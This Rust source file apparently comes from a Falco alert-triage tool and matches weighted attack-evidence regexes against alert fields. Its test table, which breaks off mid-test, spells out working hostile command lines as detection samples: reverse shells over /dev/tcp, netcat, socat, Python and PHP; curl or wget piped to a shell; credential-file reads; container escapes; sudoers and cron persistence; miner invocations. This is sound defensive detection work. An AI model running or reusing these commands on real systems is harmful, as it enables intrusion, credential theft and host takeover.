//! Attack evidence on the alert itself (`kb/evidence.toml`): patterns over command lines,
//! files, ancestry and Kubernetes request fields, each a weighted fact with its source.
//!
//! Matching is one `RegexSet` pass per field the alert carries (the first pattern of every
//! entry that reads that field), and the remaining patterns only for entries that passed, so an
//! alert without evidence costs a handful of DFA scans and no allocation.

use fa_model::{Alert, FieldValueExt};
// Byte regexes without Unicode classes: `\s`, `\w` and `\b` are ASCII, which keeps the lazy
// DFA small and fast on the command lines it scans for every alert.
use regex::bytes::{Regex, RegexBuilder, RegexSet, RegexSetBuilder};
use serde::Deserialize;
use std::borrow::Cow;

const BUILTIN: &str = include_str!("../../../../kb/evidence.toml");

/// The pseudo-field for an alert's parent and ancestors.
const ANCESTORS: &str = "proc.aname[*]";
/// What `proc.aname[*]` stands for: the parent, then the ancestors Falco can output.
const ANCESTOR_FIELDS: [&str; 9] = [
    "proc.pname",
    "proc.aname[2]",
    "proc.aname[3]",
    "proc.aname[4]",
    "proc.aname[5]",
    "proc.aname[6]",
    "proc.aname[7]",
    "proc.aname[8]",
    "proc.aname[9]",
];
/// At most this many distinct fields across all entries (a field-presence bit mask).
const MAX_FIELDS: usize = 64;
/// The reason shows at most this many characters of the matched value.
const SHOWN_CHARS: usize = 160;

#[derive(Debug, thiserror::Error)]
pub enum EvidenceError {
    #[error("{file}: {message}")]
    Parse { file: String, message: String },
    #[error("{file}: evidence `{id}`: {message}")]
    Entry {
        file: String,
        id: String,
        message: String,
    },
}

/// One `[[evidence]]` entry as written.
#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct EvidenceEntry {
    pub id: String,
    pub group: String,
    pub weight: f32,
    pub technique: String,
    pub source: String,
    pub about: String,
    pub fields: Vec<String>,
    #[serde(default = "yes")]
    pub output: bool,
    pub all: Vec<String>,
    #[serde(default)]
    pub unless: Option<String>,
    #[serde(default)]
    pub when: Vec<WhenEntry>,
    /// Conditions that must all hold (same form as `when`).
    #[serde(default)]
    pub require: Vec<WhenEntry>,
    /// Patterns for the `output` message when they differ from `all` (which read field values).
    #[serde(default)]
    pub output_all: Option<Vec<String>>,
    #[serde(default)]
    pub scope: Option<Scope>,
}

fn yes() -> bool {
    true
}

#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct WhenEntry {
    pub field: String,
    pub regex: String,
    #[serde(default)]
    pub output: Option<String>,
}

/// Where an entry may hold.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Scope {
    /// Never on the host itself: escaping a container means something only inside one.
    Container,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct EvidenceFile {
    evidence: Vec<EvidenceEntry>,
}

/// The built-in kb/evidence.toml as written (for `kb lint`).
pub const BUILTIN_TEXT: &str = BUILTIN;

/// The entries of an evidence file as written, without compiling them (for `kb lint`, which
/// reports every problem rather than the first).
pub fn read_entries(file: &str, text: &str) -> Result<Vec<EvidenceEntry>, EvidenceError> {
    toml::from_str::<EvidenceFile>(text)
        .map(|f| f.evidence)
        .map_err(|e| EvidenceError::Parse {
            file: file.to_string(),
            message: e.to_string(),
        })
}

#[derive(Debug, Clone)]
struct When {
    field: String,
    regex: Regex,
    output: Option<Regex>,
}

/// One compiled entry.
#[derive(Debug, Clone)]
pub struct Evidence {
    pub entry: EvidenceEntry,
    /// Its position in the set (what `JudgeCache` remembers).
    index: usize,
    /// Index of its group.
    group: usize,
    /// Patterns after the first (the first is in the field sets).
    rest: Vec<Regex>,
    unless: Option<Regex>,
    when: Vec<When>,
    require: Vec<When>,
    /// Patterns after the first for the output message (`output_all`, else `rest`).
    out_rest: Option<Vec<Regex>>,
    /// Bit per field it reads.
    field_mask: u64,
}

impl Evidence {
    /// Its position in its set ([`EvidenceSet::entry_at`]).
    pub(crate) fn index(&self) -> usize {
        self.index
    }

    /// The first pattern read from the output message.
    fn output_first(&self) -> &str {
        match &self.entry.output_all {
            Some(v) if !v.is_empty() => &v[0],
            _ => &self.entry.all[0],
        }
    }
}

impl When {
    /// Holds on the alert's field, or (reading the message) on the message's stand-in.
    fn holds(&self, alert: &Alert, from_output: bool) -> bool {
        match alert.field(&self.field) {
            Some(v) => self.regex.is_match(v.as_bytes()),
            None => {
                from_output
                    && self
                        .output
                        .as_ref()
                        .zip(alert.message())
                        .is_some_and(|(r, m)| r.is_match(m.as_bytes()))
            }
        }
    }
}

#[derive(Debug, Clone)]
struct FieldSet {
    field: String,
    bit: u64,
    set: RegexSet,
    /// Entry index per pattern of `set`.
    entries: Vec<usize>,
}

/// All evidence entries, compiled.
#[derive(Debug, Clone)]
pub struct EvidenceSet {
    entries: Vec<Evidence>,
    fields: Vec<FieldSet>,
    /// Field name -> index in `fields`, sorted by name: the alert's own fields are walked once
    /// and looked up here, cheaper than looking each of ours up in the alert.
    by_name: Vec<(String, usize)>,
    /// Entries that may be read from the `output` message, for alerts without their fields.
    output: Option<FieldSet>,
    groups: usize,
}

/// Evidence that holds for one alert.
#[derive(Debug, Clone)]
pub struct Hit<'a> {
    pub evidence: &'a Evidence,
    /// The field that carried it (`output` for the message).
    pub field: &'a str,
    pub value: Cow<'a, str>,
}

impl Hit<'_> {
    pub fn weight(&self) -> f32 {
        self.evidence.entry.weight
    }

    /// The reason text: what the evidence means, and the value that shows it.
    pub fn text(&self) -> String {
        let e = &self.evidence.entry;
        let mut shown: String = self.value.chars().take(SHOWN_CHARS).collect();
        if self.value.chars().nth(SHOWN_CHARS).is_some() {
            shown.push('…');
        }
        format!("{} ({}; {}={shown})", e.about, e.technique, self.field)
    }
}

fn entry_err(file: &str, id: &str, message: impl Into<String>) -> EvidenceError {
    EvidenceError::Entry {
        file: file.to_string(),
        id: id.to_string(),
        message: message.into(),
    }
}

impl EvidenceSet {
    pub fn builtin() -> Result<EvidenceSet, EvidenceError> {
        Self::parse("kb/evidence.toml", BUILTIN)
    }

    /// The entries as written (for `kb lint` and documentation).
    pub fn entries(&self) -> impl Iterator<Item = &EvidenceEntry> {
        self.entries.iter().map(|e| &e.entry)
    }

    pub fn parse(file: &str, text: &str) -> Result<EvidenceSet, EvidenceError> {
        let f: EvidenceFile = toml::from_str(text).map_err(|e| EvidenceError::Parse {
            file: file.to_string(),
            message: e.to_string(),
        })?;
        Self::compile(file, f.evidence)
    }

    fn compile(file: &str, list: Vec<EvidenceEntry>) -> Result<EvidenceSet, EvidenceError> {
        let mut field_names: Vec<String> = Vec::new();
        let mut groups: Vec<String> = Vec::new();
        let mut entries = Vec::with_capacity(list.len());
        let mut seen = std::collections::HashSet::new();
        for e in list {
            let id = e.id.clone();
            check_entry(&e).map_err(|m| entry_err(file, &id, m))?;
            if !seen.insert(id.clone()) {
                return Err(entry_err(file, &id, "duplicate id"));
            }
            let compile = |p: &str| pattern(p).map_err(|x| entry_err(file, &id, x.to_string()));
            let rest = e.all[1..]
                .iter()
                .map(|p| compile(p))
                .collect::<Result<Vec<_>, _>>()?;
            compile(&e.all[0])?;
            let unless = e.unless.as_deref().map(compile).transpose()?;
            let conds = |list: &[WhenEntry]| {
                list.iter()
                    .map(|w| {
                        Ok(When {
                            field: w.field.clone(),
                            regex: compile(&w.regex)?,
                            output: w.output.as_deref().map(compile).transpose()?,
                        })
                    })
                    .collect::<Result<Vec<_>, EvidenceError>>()
            };
            let when = conds(&e.when)?;
            let require = conds(&e.require)?;
            let out_rest = match &e.output_all {
                Some(v) if v.is_empty() => {
                    return Err(entry_err(file, &id, "`output_all` is empty"))
                }
                Some(v) => {
                    compile(&v[0])?;
                    Some(
                        v[1..]
                            .iter()
                            .map(|p| compile(p))
                            .collect::<Result<Vec<_>, _>>()?,
                    )
                }
                None => None,
            };
            let mut field_mask = 0u64;
            for f in expand(&e.fields) {
                let i = match field_names.iter().position(|x| x == f) {
                    Some(i) => i,
                    None => {
                        field_names.push(f.to_string());
                        field_names.len() - 1
                    }
                };
                if i >= MAX_FIELDS {
                    return Err(entry_err(file, &id, "too many distinct fields"));
                }
                field_mask |= 1 << i;
            }
            let group = match groups.iter().position(|g| *g == e.group) {
                Some(g) => g,
                None => {
                    groups.push(e.group.clone());
                    groups.len() - 1
                }
            };
            entries.push(Evidence {
                index: entries.len(),
                entry: e,
                group,
                rest,
                unless,
                when,
                require,
                out_rest,
                field_mask,
            });
        }
        let set_err = |m: regex::Error| EvidenceError::Parse {
            file: file.to_string(),
            message: m.to_string(),
        };
        let mut fields = Vec::new();
        for (i, name) in field_names.iter().enumerate() {
            let bit = 1u64 << i;
            let members: Vec<usize> = (0..entries.len())
                .filter(|&k| entries[k].field_mask & bit != 0)
                .collect();
            let set = pattern_set(members.iter().map(|&k| entries[k].entry.all[0].as_str()))
                .map_err(set_err)?;
            fields.push(FieldSet {
                field: name.clone(),
                bit,
                set,
                entries: members,
            });
        }
        let out_members: Vec<usize> = (0..entries.len())
            .filter(|&k| entries[k].entry.output)
            .collect();
        let output = if out_members.is_empty() {
            None
        } else {
            Some(FieldSet {
                field: "output".into(),
                bit: 0,
                set: pattern_set(out_members.iter().map(|&k| entries[k].output_first()))
                    .map_err(set_err)?,
                entries: out_members,
            })
        };
        let mut by_name: Vec<(String, usize)> = fields
            .iter()
            .enumerate()
            .map(|(i, f)| (f.field.clone(), i))
            .collect();
        by_name.sort();
        Ok(EvidenceSet {
            entries,
            fields,
            by_name,
            output,
            groups: groups.len(),
        })
    }

    /// Evidence that holds for `alert`: per group only the heaviest entry, heaviest first.
    pub fn find<'a>(&'a self, alert: &'a Alert) -> Vec<Hit<'a>> {
        let mut hits: Vec<Hit<'a>> = Vec::new();
        let mut present = 0u64;
        for (name, raw) in alert.output_fields.iter() {
            let Ok(at) = self.by_name.binary_search_by(|(n, _)| n.as_str().cmp(name)) else {
                continue;
            };
            let fs = &self.fields[self.by_name[at].1];
            let Some(value) = raw.as_text() else {
                continue;
            };
            present |= fs.bit;
            if !fs.set.is_match(value.as_bytes()) {
                continue;
            }
            for i in fs.set.matches(value.as_bytes()).iter() {
                let k = fs.entries[i];
                if self.holds(k, alert, &value, false) {
                    push_best(&mut hits, &self.entries[k], &fs.field, value.clone());
                }
            }
        }
        // Alerts that lack an entry's fields are read through their message, if the message can
        // say more than the fields: a plain-text alert, or one without output fields (Falco
        // renders a JSON alert's message from the very fields it lists).
        if let (true, Some(os), Some(msg)) = (reads_message(alert), &self.output, alert.message()) {
            let wanted = |k: usize| self.entries[k].field_mask & present == 0;
            if os.entries.iter().any(|&k| wanted(k)) && os.set.is_match(msg.as_bytes()) {
                for i in os.set.matches(msg.as_bytes()).iter() {
                    let k = os.entries[i];
                    if wanted(k) && self.holds(k, alert, msg, true) {
                        push_best(&mut hits, &self.entries[k], "output", Cow::Borrowed(msg));
                    }
                }
            }
        }
        debug_assert!(hits.len() <= self.groups);
        hits.sort_by(|a, b| b.weight().total_cmp(&a.weight()));
        hits
    }

    /// Entry `k` (see [`Evidence::index`]).
    pub(crate) fn entry_at(&self, k: usize) -> Option<&Evidence> {
        self.entries.get(k)
    }

    /// Every alert field matching can read, besides the message (which it reads only when
    /// [`reads_message`] says so, and through [`on_host`]): `JudgeCache` keys on their values.
    pub(crate) fn read_fields(&self) -> impl Iterator<Item = &str> {
        self.fields
            .iter()
            .map(|f| f.field.as_str())
            .chain(self.entries.iter().flat_map(|e| {
                e.when
                    .iter()
                    .chain(e.require.iter())
                    .map(|w| w.field.as_str())
            }))
            .chain(std::iter::once("container.id"))
    }

    /// The rest of entry `k` over `value`: its other patterns, `unless`, `when` and scope.
    fn holds(&self, k: usize, alert: &Alert, value: &str, from_output: bool) -> bool {
        let e = &self.entries[k];
        let rest = match (&e.out_rest, from_output) {
            (Some(r), true) => r,
            _ => &e.rest,
        };
        let value = value.as_bytes();
        if !rest.iter().all(|r| r.is_match(value)) {
            return false;
        }
        if e.unless.as_ref().is_some_and(|u| u.is_match(value)) {
            return false;
        }
        if !e.when.is_empty() && !e.when.iter().any(|w| w.holds(alert, from_output)) {
            return false;
        }
        if !e.require.iter().all(|w| w.holds(alert, from_output)) {
            return false;
        }
        if e.entry.scope == Some(Scope::Container) && on_host(alert) {
            return false;
        }
        true
    }
}

/// One pattern as evidence matching compiles it (`kb lint` compiles the same way).
pub fn pattern(p: &str) -> Result<Regex, regex::Error> {
    RegexBuilder::new(p).unicode(false).build()
}

fn pattern_set<'p>(ps: impl Iterator<Item = &'p str>) -> Result<RegexSet, regex::Error> {
    RegexSetBuilder::new(ps).unicode(false).build()
}

/// Keep only the heaviest hit of each group.
fn push_best<'a>(hits: &mut Vec<Hit<'a>>, e: &'a Evidence, field: &'a str, value: Cow<'a, str>) {
    match hits.iter_mut().find(|h| h.evidence.group == e.group) {
        // Of equal weights the later entry wins: the file writes the more specific form later.
        Some(h) if h.weight() > e.entry.weight => {}
        Some(h) => {
            *h = Hit {
                evidence: e,
                field,
                value,
            }
        }
        None => hits.push(Hit {
            evidence: e,
            field,
            value,
        }),
    }
}

/// Whether evidence is also read from the alert's message: a plain-text alert, or one without
/// output fields.
pub(crate) fn reads_message(alert: &Alert) -> bool {
    alert.format == fa_model::InputFormat::PlainText || alert.output_fields.is_empty()
}

/// The alert is about the host itself, not a container.
pub(crate) fn on_host(alert: &Alert) -> bool {
    match alert.field("container.id") {
        Some(id) => id == "host",
        None => message_says_host(alert),
    }
}

/// [`on_host`] for an alert without `container.id`: what its message says.
pub(crate) fn message_says_host(alert: &Alert) -> bool {
    alert
        .message()
        .is_some_and(|m| m.contains("container_id=host") || m.contains("container=host"))
}

fn expand(fields: &[String]) -> Vec<&str> {
    let mut out = Vec::new();
    for f in fields {
        if f == ANCESTORS {
            out.extend(ANCESTOR_FIELDS);
        } else {
            out.push(f.as_str());
        }
    }
    out
}

/// Checks load-time validation makes on one entry (`kb lint` adds field-name checks).
pub fn check_entry(e: &EvidenceEntry) -> Result<(), String> {
    if e.id.trim().is_empty() {
        return Err("empty id".into());
    }
    if e.source.trim().is_empty() {
        return Err("no source".into());
    }
    if e.about.trim().is_empty() {
        return Err("no `about` text".into());
    }
    if !e.weight.is_finite() || e.weight <= 0.0 {
        return Err(format!(
            "weight {} must be positive: evidence only raises",
            e.weight
        ));
    }
    if e.all.is_empty() {
        return Err("no pattern in `all`".into());
    }
    if e.fields.is_empty() {
        return Err("no fields".into());
    }
    Ok(())
}

/// `proc.aname[*]`, the pseudo-field for the parent and ancestors.
pub fn is_pseudo_field(f: &str) -> bool {
    f == ANCESTORS
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn set() -> &'static EvidenceSet {
        static SET: std::sync::OnceLock<EvidenceSet> = std::sync::OnceLock::new();
        SET.get_or_init(|| EvidenceSet::builtin().expect("kb/evidence.toml compiles"))
    }

    fn alert(fields: serde_json::Value) -> Alert {
        serde_json::from_value(json!({
            "rule": "Test rule", "priority": "Warning", "output": "test",
            "output_fields": fields
        }))
        .expect("valid alert")
    }

    fn text_alert(output: &str) -> Alert {
        serde_json::from_value(
            json!({"rule": "Test rule", "priority": "Warning", "output": output}),
        )
        .expect("valid alert")
    }

    /// Ids of the evidence that holds for the alert.
    fn ids(a: &Alert) -> Vec<String> {
        set()
            .find(a)
            .iter()
            .map(|h| h.evidence.entry.id.clone())
            .collect()
    }

    fn cmd(c: &str) -> Vec<String> {
        ids(&alert(
            json!({"proc.cmdline": c, "proc.name": "bash", "container.id": "abc123"}),
        ))
    }

    /// Each case: the evidence id, a command line that shows it, and a benign look-alike.
    const CMDLINE_CASES: &[(&str, &str, &str)] = &[
        ("reverse-shell-dev-tcp", "bash -c bash -i >& /dev/tcp/172.17.0.1/443 0>&1", "bash -c echo > /dev/tcp/db/5432"),
        ("dev-tcp-socket", "bash -c 'cat < /dev/tcp/db/5432'", "bash -c 'echo /dev/tcp'"),
        ("reverse-shell-netcat-exec", "nc 172.17.0.1 443 -e /bin/bash", "nc -z -w 2 db 5432"),
        ("reverse-shell-pipe-to-network", "sh -c /bin/sh -i 2>&1 | nc 10.0.0.1 4444", "sh -c ps aux | grep nc"),
        ("reverse-shell-mkfifo", "sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f", "mkfifo /run/app/ctl.fifo"),
        ("reverse-shell-socat-exec", "socat tcp-connect:10.0.0.1:4444 exec:/bin/sh,pty,stderr", "socat TCP-LISTEN:8080,fork TCP:backend:80"),
        ("reverse-shell-interpreter", "python3 -c import socket,subprocess,os;s=socket.socket();s.connect((\"10.0.0.1\",4242));os.dup2(s.fileno(),0);import pty;pty.spawn(\"/bin/sh\")", "python3 -c import socket; print(socket.gethostname())"),
        ("reverse-shell-interpreter", "php -r $sock=fsockopen(\"10.0.0.1\",4242);exec(\"/bin/sh -i <&3 >&3 2>&3\");", "php -r echo phpversion();"),
        ("download-pipe-to-shell", "sh -c curl -s http://203.0.113.9:8220/logo3.jpg | bash -s", "curl -fsSLo /tmp/helm.tgz https://get.helm.sh/helm.tgz"),
        ("download-pipe-to-shell", "wget -qO- http://203.0.113.9/x | sh", "wget -O /var/cache/app.tar.gz https://example.com/app.tar.gz"),
        ("download-chmod-exec", "sh -c cd /tmp; wget http://203.0.113.9/kinsing; chmod +x kinsing; ./kinsing", "sh -c curl -o /tmp/data.json https://example.com/d.json && cat /tmp/data.json"),
        ("base64-pipe-to-shell", "sh -c echo Y3VybCBodHRwOi8vZXZpbA== | base64 -d | bash", "sh -c echo $CERT | base64 -d > /etc/ssl/cert.pem"),
        ("credential-file-read-command", "cat /etc/shadow", "cat /etc/passwd"),
        ("credential-file-read-command", "cat /root/.ssh/id_rsa", "cat /root/.ssh/id_rsa.pub"),
        ("service-account-token-read-command", "cat /var/run/secrets/kubernetes.io/serviceaccount/token", "ls /var/run/secrets/kubernetes.io/serviceaccount"),
        ("credential-dumper", "./mimipenguin.sh", "./mimetype-check.sh"),
        ("post-exploitation-tool", "sh linpeas.sh -a", "apt-get install -y linpeas"),
        ("password-brute-forcer", "hydra -L users.txt -P rockyou.txt ssh://10.0.0.5", "hydra serve all --config /etc/hydra.yaml"),
        ("tunnel-tool", "./chisel client 203.0.113.9:8000 R:socks", "chiselstore migrate"),
        ("recon-tool", "nmap -sS 10.0.0.0/24", "nmapper-exporter --port 9100"),
        ("container-escape-recon", "amicontained", "apk add amicontained"),
        ("miner-stratum-url", "minerd2 -a cryptonight -o stratum+tcp://monero.crypto-pool.fr:3333 -u 49Tf -p x", "stratum-client --help"),
        ("miner-binary-or-arguments", "./xmrig --donate-level 1 -o 203.0.113.9:443", "apk add xmrig-proxy-docs"),
        ("miner-pool-host-and-port", "./kworker --url=gulf.moneroocean.stream:10128", "redis-cli -h cache.example.com -p 6379"),
        ("nsenter-host-shell", "nsenter -t 1 -m -u -i -n -p -- bash", "nsenter --mount=/rootfs/proc/1/ns/mnt -- systemctl status --no-block kubelet"),
        ("nsenter-host-shell", "nsenter --target 1 --mount --uts --ipc --net --pid", "nsenter --net=/var/run/netns/cni-1 ip addr"),
        ("nsenter-host-namespaces", "nsenter --mount=/proc/1/ns/mnt -- systemctl reboot", "nsenter --net=/var/run/netns/cni-1 ip addr"),
        ("cgroup-release-agent", "sh -c echo /cmd > /tmp/cgrp/release_agent", "cat /sys/fs/cgroup/memory/memory.limit_in_bytes"),
        ("host-disk-mount", "mount /dev/sda1 /mnt/host", "mount -t tmpfs tmpfs /mnt/scratch"),
        ("host-root-through-proc1", "cat /proc/1/root/etc/shadow", "cat /proc/1/status"),
        ("chroot-host", "chroot /host bash", "chroot /srv/build-root make"),
        ("docker-socket-command", "curl --unix-socket /var/run/docker.sock http://localhost/containers/json", "curl http://localhost:2375/version"),
        ("unshare-map-root", "unshare -UrmC bash", "unshare --net ip link"),
        ("ld-preload-write", "sh -c echo /tmp/libhide.so > /etc/ld.so.preload", "cat /etc/ld.so.preload"),
        ("account-file-append", "sh -c echo 'hax::0:0::/root:/bin/bash' >> /etc/passwd", "grep root /etc/passwd"),
        ("sudoers-nopasswd", "sh -c echo 'www-data ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", "visudo -c"),
        ("cron-write-command", "sh -c echo '* * * * * curl -s http://x/y | bash' >> /mnt/etc/crontabs/root", "cat /etc/crontab"),
        ("cron-write-command", "sh -c (crontab -l; echo '@reboot /tmp/x') | crontab -", "crontab -l"),
        ("cron-edit", "crontab -e", "crontab -l"),
        ("history-tampering", "bash -c history -c", "bash -c history | tail"),
        ("kubectl-privileged-pod-override", "kubectl run r00t --restart=Never -ti --rm --image lol --overrides {\"spec\":{\"hostPID\": true}}", "kubectl run web --image nginx --overrides {\"spec\":{\"serviceAccountName\":\"web\"}}"),
        ("nsenter-host-shell", "kubectl run r00t --image lol --overrides {\"spec\":{\"containers\":[{\"command\":[\"nsenter\",\"--mount=/proc/1/ns/mnt\",\"--\",\"/bin/bash\"]}]}}", "kubectl get pods -o json"),
        ("private-key-search", "find / -name id_rsa", "find /var/www -name '*.php'"),
        ("private-key-search", "grep -ri 'BEGIN RSA PRIVATE' /home", "grep -i error /var/log/app.log"),
        ("sudoedit-baron-samedit", "sudoedit -s \\ id", "sudoedit /etc/hosts"),
        ("path-traversal", "cat ../../../../etc/passwd", "cat ../README.md"),
        ("history-tampering", "sh -c unset HISTFILE", "sh -c echo $HISTFILE"),
    ];

    #[test]
    fn each_command_line_fact_holds_on_its_example_and_not_on_its_look_alike() {
        let mut covered = std::collections::HashSet::new();
        for (id, positive, negative) in CMDLINE_CASES {
            // The fact holds, or one of its group at least as heavy stands for it.
            let a = alert(
                json!({"proc.cmdline": positive, "proc.name": "bash", "container.id": "abc123"}),
            );
            let hits = set().find(&a);
            let mine = set()
                .entries
                .iter()
                .find(|e| e.entry.id == *id)
                .expect("known id");
            assert!(
                hits.iter().any(|h| h.evidence.entry.id == *id
                    || (h.evidence.group == mine.group && h.weight() >= mine.entry.weight)),
                "`{positive}` should show {id}, got {:?}",
                hits.iter()
                    .map(|h| &h.evidence.entry.id)
                    .collect::<Vec<_>>()
            );
            // A look-alike shows neither this fact nor attack evidence; a hint may hold (the
            // kops look-alike does enter the host's mount namespace).
            let a = alert(
                json!({"proc.cmdline": negative, "proc.name": "bash", "container.id": "abc123"}),
            );
            let neg = set().find(&a);
            assert!(
                neg.iter()
                    .all(|h| h.evidence.entry.id != *id && h.weight() < 4.0),
                "`{negative}` should show no attack evidence, got {:?}",
                neg.iter().map(|h| &h.evidence.entry.id).collect::<Vec<_>>()
            );
            covered.insert(*id);
        }
        // Every command-line entry (the ones reading proc.cmdline) has a case here.
        for e in set().entries() {
            if e.fields.iter().any(|f| f == "proc.cmdline") && e.id != "log-wipe-interactive" {
                assert!(covered.contains(e.id.as_str()), "no case for {}", e.id);
            }
        }
    }

    #[test]
    fn a_shell_with_its_standard_streams_on_a_socket() {
        let f = alert(json!({"proc.name": "bash", "fd.num": 1, "fd.type": "ipv4"}));
        assert_eq!(ids(&f), vec!["shell-stdio-on-socket"]);
        let file = alert(json!({"proc.name": "bash", "fd.num": 1, "fd.type": "file"}));
        assert!(ids(&file).is_empty());
        let server = alert(json!({"proc.name": "nginx", "fd.num": 1, "fd.type": "ipv4"}));
        assert!(ids(&server).is_empty());
        let text = text_alert("Warning Reverse shell connection (user=root process=bash parent=bash cmdline=bash terminal=34816 fd.name=172.17.0.2:50190->34.204.205.146:1234 fd.num=1 fd.type=ipv4)");
        assert_eq!(ids(&text), vec!["shell-stdio-on-socket"]);
        let text_fd7 = text_alert(
            "Warning Outbound connection (user=root process=bash fd.num=7 fd.type=ipv4)",
        );
        assert!(ids(&text_fd7).is_empty());
    }

    #[test]
    fn only_the_heaviest_fact_of_a_group_counts() {
        let got = cmd("bash -c bash -i >& /dev/tcp/10.0.0.1/443 0>&1");
        assert_eq!(got, vec!["reverse-shell-dev-tcp".to_string()]);
    }

    #[test]
    fn a_credential_file_opened_by_a_shell_tool_but_not_by_a_service() {
        let hit =
            alert(json!({"fd.name": "/etc/shadow", "proc.name": "cat", "proc.cmdline": "cat"}));
        assert_eq!(ids(&hit), vec!["credential-file-opened-by-shell-tool"]);
        let sshd = alert(
            json!({"fd.name": "/etc/shadow", "proc.name": "sshd", "proc.cmdline": "sshd -D"}),
        );
        assert!(ids(&sshd).is_empty());
        let passwd = alert(json!({"fd.name": "/etc/passwd", "proc.name": "cat"}));
        assert!(ids(&passwd).is_empty());
    }

    #[test]
    fn the_hosts_system_directories_mounted_writable() {
        // Falco's bad-mount example: /etc of the host, read-write, at /mnt/etc.
        let rw = alert(json!({"container.mounts": "/etc:/mnt/etc::true:rprivate"}));
        assert_eq!(ids(&rw), vec!["host-system-dir-writable-mount"]);
        let root = alert(
            json!({"container.mounts": "/var/log:/var/log::false:rprivate,/:/host::true:rprivate"}),
        );
        assert_eq!(ids(&root), vec!["host-system-dir-writable-mount"]);
        // Read-only, or a directory below /etc (a CNI config dir), is not it.
        let ro = alert(json!({"container.mounts": "/etc:/host/etc::false:rprivate"}));
        assert!(ids(&ro).is_empty());
        let cni =
            alert(json!({"container.mounts": "/etc/cni/net.d:/host/etc/cni/net.d::true:rprivate"}));
        assert!(ids(&cni).is_empty());
    }

    #[test]
    fn ld_preload_counts_only_when_opened_for_writing() {
        let w =
            alert(json!({"fd.name": "/etc/ld.so.preload", "evt.arg.flags": "O_WRONLY|O_CREAT"}));
        assert_eq!(ids(&w), vec!["ld-preload-opened-for-writing"]);
        let r = alert(json!({"fd.name": "/etc/ld.so.preload", "evt.arg.flags": "O_RDONLY"}));
        assert!(ids(&r).is_empty());
    }

    #[test]
    fn account_files_opened_for_writing_are_a_hint() {
        let w = alert(json!({"fd.name": "/root/.ssh/authorized_keys", "evt.is_open_write": true}));
        let hits = set().find(&w);
        assert_eq!(hits.len(), 1);
        assert_eq!(hits[0].evidence.entry.id, "account-file-opened-for-writing");
        assert!(hits[0].weight() < 4.0);
        let r = alert(json!({"fd.name": "/root/.ssh/authorized_keys", "evt.is_open_write": false}));
        assert!(ids(&r).is_empty());
        let other = alert(json!({"fd.name": "/etc/passwd.lock", "evt.is_open_write": true}));
        assert!(ids(&other).is_empty());
    }

    #[test]
    fn executables_in_temporary_directories() {
        let shm = alert(json!({"proc.exepath": "/dev/shm/.x/kworker"}));
        assert_eq!(ids(&shm), vec!["exec-from-dev-shm"]);
        let tmp = alert(json!({"proc.exepath": "/tmp/payload"}));
        assert_eq!(ids(&tmp), vec!["exec-from-tmp"]);
        let gotest = alert(json!({"proc.exepath": "/tmp/go-build123456/b001/exe/main"}));
        assert!(ids(&gotest).is_empty());
    }

    #[test]
    fn kubernetes_pod_requests_with_host_access() {
        let root =
            alert(json!({"ka.req.pod.volumes.hostpath": ["/"], "ka.req.pod.host_pid": "true"}));
        let got = ids(&root);
        assert!(
            got.contains(&"k8s-pod-hostpath-root".to_string()),
            "{got:?}"
        );
        assert!(got.contains(&"k8s-pod-host-pid".to_string()), "{got:?}");
        let etc = alert(json!({"ka.req.pod.volumes.hostpath": ["/etc"]}));
        assert_eq!(ids(&etc), vec!["k8s-pod-hostpath-sensitive"]);
        let data = alert(
            json!({"ka.req.pod.volumes.hostpath": ["/data/cache", "/var/log/pods"], "ka.req.pod.host_pid": "false"}),
        );
        assert!(ids(&data).is_empty());
    }

    #[test]
    fn an_unauthenticated_identity_acting_on_an_object_but_not_a_health_probe() {
        let exec = alert(
            json!({"ka.user.name": "system:anonymous", "ka.target.resource": "pods", "ka.verb": "create"}),
        );
        assert_eq!(ids(&exec), vec!["k8s-unauthenticated-actor"]);
        let ready = alert(json!({"ka.user.name": "system:anonymous", "ka.uri": "/readyz"}));
        assert!(ids(&ready).is_empty());
        let person = alert(json!({"ka.user.name": "alice", "ka.target.resource": "pods"}));
        assert!(ids(&person).is_empty());
        // Falco's text output of the same rules (Kris Nova's CTF write-up, falco.org 2020).
        let text = text_alert("Notice Attach/Exec to pod (user=system:unsecured pod=falco-ds-zdsgm ns=falco action=exec command=%2Fbin%2Fbash)");
        assert_eq!(ids(&text), vec!["k8s-unauthenticated-actor"]);
        let probe = text_alert("Warning Request by anonymous user allowed (user=system:anonymous verb=get uri=/readyz reason=RBAC: allowed)");
        assert!(ids(&probe).is_empty());
    }

    #[test]
    fn log_wiping_needs_an_interactive_terminal() {
        let tty = alert(json!({"proc.cmdline": "rm -rf /var/log/auth.log", "proc.tty": 34816}));
        assert_eq!(ids(&tty), vec!["log-wipe-interactive"]);
        let cron = alert(json!({"proc.cmdline": "rm -f /var/log/app/old.log.1", "proc.tty": 0}));
        assert!(ids(&cron).is_empty());
        let text = text_alert("Warning Log files were tampered (user=root command=shred -u /var/log/wtmp terminal=34816 container_id=abc)");
        assert_eq!(ids(&text), vec!["log-wipe-interactive"]);
        let text_no_tty = text_alert(
            "Warning Log files were tampered (user=root command=shred -u /var/log/wtmp terminal=0)",
        );
        assert!(ids(&text_no_tty).is_empty());
    }

    #[test]
    fn breakout_facts_do_not_hold_on_the_host_itself() {
        let host = alert(json!({"proc.cmdline": "mount /dev/sda1 /mnt", "container.id": "host"}));
        assert!(ids(&host).is_empty());
        let ctr =
            alert(json!({"proc.cmdline": "mount /dev/sda1 /mnt", "container.id": "e2305ecd8227"}));
        assert_eq!(ids(&ctr), vec!["host-disk-mount"]);
    }

    #[test]
    fn falco_placeholders_in_a_message_are_not_redirections() {
        // `<NA>` ends in `>`: it must not read as a redirect into the path that follows.
        let a = text_alert("Warning Shell history had been deleted or renamed (user=root type=unlink command=zsh fd.name=<NA> name=<NA> path=/root/.zsh_history.LOCK oldpath=<NA> host (id=host))");
        assert!(ids(&a).is_empty(), "{:?}", ids(&a));
        let b = text_alert("Error File below /etc opened for writing (user=root command=vi parent=<NA> file=/etc/sudoers program=vi)");
